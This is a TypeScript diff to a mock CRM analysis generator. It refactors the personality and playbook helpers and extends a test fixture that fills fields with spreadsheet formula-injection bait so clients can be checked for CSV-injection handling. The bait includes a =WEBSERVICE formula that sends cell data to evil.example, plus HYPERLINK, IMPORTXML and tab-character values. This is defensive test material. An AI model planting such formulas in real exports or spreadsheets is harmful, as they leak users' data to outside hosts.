@@ -2,6 +2,8 @@ import { createHash } from "node:crypto";
 import type { Analise, ProfileInput } from "../api/types.js";
 import { foldValue } from "../text/fold.js";
 import { mulberry32 } from "./sandbox-faults.js";
+import { buildPersonalidade, buildPlaybooks, OBJECOES, type Playbooks } from "./sandbox-personality.js";
+import { pickOne, pickSome } from "./sandbox-pick.js";
 
 interface Role {
   cargo: string;
@@ -115,57 +117,6 @@ const LINGUAGEM = [
   "Resultados mensuráveis desde o primeiro mês",
 ];
 
-const OBJECOES = [
-  "Orçamento já comprometido neste trimestre",
-  "Receio de uma implantação demorada",
-  "Fornecedor atual com contrato vigente",
-  "Dúvidas sobre a segurança das informações",
-  "Equipe sem tempo para treinamento",
-  "Necessidade de aprovação da matriz",
-];
-
-const DISC = ["Dominante", "Influente", "Estável", "Analítico"];
-const TRACOS = [
-  "Pragmático",
-  "Curioso",
-  "Orientado a metas",
-  "Cauteloso",
-  "Colaborativo",
-  "Direto",
-  "Detalhista",
-];
-const ESTILOS = [
-  "Prefere mensagens curtas, com números e próximos passos claros.",
-  "Valoriza contexto e histórias de clientes parecidos.",
-  "Responde melhor a conversas presenciais e relacionamento.",
-  "Quer dados e comparativos antes de qualquer reunião.",
-];
-const MOTIVADORES = [
-  "Reconhecimento",
-  "Autonomia",
-  "Segurança",
-  "Impacto no negócio",
-  "Aprendizado",
-  "Eficiência",
-];
-
-type Random = () => number;
-
-function pickOne<T>(list: readonly T[], random: Random): T {
-  return list[Math.floor(random() * list.length)] as T;
-}
-
-/** Two to four distinct items, order drawn too. */
-function pickSome(list: readonly string[], random: Random, min = 2, max = 4): string[] {
-  const count = min + Math.floor(random() * (max - min + 1));
-  const pool = [...list];
-  const chosen: string[] = [];
-  while (chosen.length < count && pool.length > 0) {
-    chosen.push(pool.splice(Math.floor(random() * pool.length), 1)[0] as string);
-  }
-  return chosen;
-}
-
 /** Seed from the folded input, so the same person (however cased or spaced) gets the same analysis. */
 function seedFor(profile: ProfileInput): number {
   const folded = [profile.primeiro_nome, profile.ultimo_nome, profile.empresa, profile.contexto_adicional]
@@ -188,14 +139,17 @@ function display(value: string): string {
 
 /**
  * A plausible pt-BR analysis, deterministic per person. It carries fields the docs do not show
- * (senioridade, area, resumo, manual_comprador.objecoes) so clients prove they keep unknown fields;
- * `complete` adds the personality block of POST /crm.
+ * (senioridade, area, resumo, manual_comprador.objecoes) so clients prove they keep unknown fields.
+ * `complete` gives the analysis of POST /crm and POST /crm_batch: the same basic fields (drawn first from
+ * the same stream, so they equal the basic analysis) plus `perfil_personalidade` and `playbooks`.
  */
 export function buildAnalise(profile: ProfileInput, options: { complete?: boolean } = {}): Analise {
   const random = mulberry32(seedFor(profile));
   const role = pickOne(ROLES, random);
   const name = `${display(profile.primeiro_nome)} ${display(profile.ultimo_nome)}`;
   const dores = pickSome(DORES, random);
+  const ganhos = pickSome(GANHOS, random);
+  const objecoes = pickSome(OBJECOES, random, 1, 3);
   const analise: Analise = {
     cargo: role.cargo,
     tipo_stakeholder: role.tipo_stakeholder,
@@ -204,18 +158,14 @@ export function buildAnalise(profile: ProfileInput, options: { complete?: boolea
     resumo: `${name} atua como ${role.cargo} na ${display(profile.empresa)}, com foco em ${dores[0]?.toLocaleLowerCase("pt-BR")}.`,
     manual_comprador: {
       dores,
-      ganhos_procurados: pickSome(GANHOS, random),
-      objecoes: pickSome(OBJECOES, random, 1, 3),
+      ganhos_procurados: ganhos,
+      objecoes,
     },
     linguagem_impacto: pickSome(LINGUAGEM, random),
   };
   if (options.complete) {
-    analise.personalidade = {
-      perfil_disc: pickOne(DISC, random),
-      tracos: pickSome(TRACOS, random, 2, 3),
-      estilo_comunicacao: pickOne(ESTILOS, random),
-      motivadores: pickSome(MOTIVADORES, random, 2, 3),
-    };
+    analise.perfil_personalidade = buildPersonalidade(random);
+    analise.playbooks = buildPlaybooks(random, objecoes);
   }
   return analise;
 }
@@ -223,14 +173,14 @@ export function buildAnalise(profile: ProfileInput, options: { complete?: boolea
 /**
  * A successful analysis full of spreadsheet-formula and control-character bait, for CSV-injection tests.
  * With "fullwidth" in contexto_adicional every trigger uses its full-width form (＝ ＋ － ＠), which some
- * spreadsheet programs also treat as the start of a formula.
+ * spreadsheet programs also treat as the start of a formula. The complete variant baits its playbook too.
  */
 export function buildHostileAnalise(profile: ProfileInput, options: { complete?: boolean } = {}): Analise {
   const base = buildAnalise(profile, options);
   const manual = base.manual_comprador ?? {};
   const wide = (profile.contexto_adicional ?? "").toLowerCase().includes("fullwidth");
   const [eq, plus, minus, at] = wide ? ["＝", "＋", "－", "＠"] : ["=", "+", "-", "@"];
-  return {
+  const hostile: Analise = {
     ...base,
     cargo: `${eq}HYPERLINK("http://evil.example","CEO")`,
     tipo_stakeholder: "\tTab lead",
@@ -242,4 +192,13 @@ export function buildHostileAnalise(profile: ProfileInput, options: { complete?:
     },
     linguagem_impacto: [`${at}SUM(1+1)`, ...(base.linguagem_impacto ?? []).slice(0, 2)],
   };
+  const playbooks = base.playbooks as Playbooks | undefined;
+  if (playbooks) {
+    hostile.playbooks = {
+      ...playbooks,
+      abordagem: `${eq}WEBSERVICE("http://evil.example/?"&A1)`,
+      gatilhos: [`${at}IMPORTXML(A1,"//a")`, ...playbooks.gatilhos.slice(0, 2)],
+    };
+  }
+  return hostile;
 }
